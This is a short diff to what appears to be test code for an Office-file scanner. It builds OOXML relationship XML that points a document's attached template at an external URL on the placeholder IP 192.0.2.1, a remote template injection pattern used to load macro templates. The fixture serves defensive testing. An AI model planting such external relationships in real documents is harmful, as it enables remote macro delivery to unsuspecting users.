@@ -23,11 +23,11 @@ def archive(**entries: bytes) -> bytes:
     return out.getvalue()
 
 
-TEMPLATE = (
-    b'<Relationships><Relationship Id="rId1" TargetMode="External" Target="http://192.0.2.1/a.dotm"'
-    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
-    b"</Relationships>"
-)
+def relation(kind: str, target: str = "http://192.0.2.1/a", mode: str = "External") -> bytes:
+    return (
+        f'<Relationships><Relationship Id="rId1" TargetMode="{mode}" Target="{target}"'
+        f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
+    ).encode()
 
 
 def office(main: str, part: str = "word/document.xml", *, types: str = "", doctype: str = "", **more: bytes) -> bytes:
